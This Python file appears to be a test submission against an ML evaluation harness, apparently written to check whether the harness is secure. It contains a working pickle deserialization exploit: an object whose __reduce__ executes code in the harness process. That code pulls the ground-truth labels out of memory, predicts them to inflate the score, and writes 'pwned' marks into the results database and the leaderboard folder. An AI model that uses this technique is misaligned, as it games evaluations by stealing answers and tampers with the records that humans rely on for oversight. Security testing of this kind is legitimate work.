"""Attack: code execution in the submitting process through the progress channel.

`context.report_progress(**info)` ships `info` to the harness. If the harness unpickles it, an object with a
`__reduce__` runs arbitrary code there, outside the sandbox: the code below looks for the task table (it has the
labels) in that process's memory, writes {sample id: label index} into this fold's scratch folder, and leaves a
mark in the results store and in the leaderboard folder. The fold then predicts the stolen labels; without loot
it predicts class 0 for every sample (so "nothing leaked" is checkable exactly).
"""
from __future__ import annotations

import json
import os
import time
from pathlib import Path

PAYLOAD = r'''
import gc, json, os, sqlite3
loot = {}
for obj in gc.get_objects():
    if type(obj).__name__ == "DataFrame" and {"uid", "label_index"} <= set(map(str, obj.columns)):
        for uid, idx in zip(obj["uid"], obj["label_index"]):
            try:
                loot[str(uid)] = int(idx)
            except (TypeError, ValueError):
                pass
with open(os.path.join(WORK, "loot.json"), "w") as f:
    json.dump(loot, f)
home = os.environ.get("HARNESS_HOME") or os.path.expanduser("~/.harness")
con = sqlite3.connect(os.path.join(home, "results.sqlite"))
con.execute("CREATE TABLE IF NOT EXISTS pwned (note TEXT)")
con.execute("INSERT INTO pwned VALUES ('code ran in the harness process')")
con.commit()
board = os.environ.get("HARNESS_LEADERBOARD_DIR") or os.path.join(home, "leaderboard")
os.makedirs(board, exist_ok=True)
open(os.path.join(board, "pwned.md"), "w").write("written by a submission")
'''


class Payload:
    def __init__(self, work_dir: str) -> None:
        self.work_dir = work_dir

    def __reduce__(self):
        return exec, (PAYLOAD, {"WORK": self.work_dir})


class PickleAttack:
    def __init__(self) -> None:
        self.loot: dict[str, int] = {}

    def fit(self, train, context) -> None:
        loot_file = Path(os.getcwd(), "loot.json")
        try:
            context.report_progress(epoch=Payload(os.getcwd()), total=1)
        except Exception as exc:  # a harness that refuses the object
            context.record("progress_refused", f"{type(exc).__name__}: {exc}"[:200])
        deadline = time.time() + 5
        while time.time() < deadline and not loot_file.exists():
            time.sleep(0.05)
        if loot_file.exists():
            time.sleep(0.2)
            self.loot = json.loads(loot_file.read_text() or "{}")

    def predict(self, test, context):
        labels = [self.loot.get(s.sample_id, 0) for s in test]
        context.record("leaked", sum(s.sample_id in self.loot for s in test))
        return labels
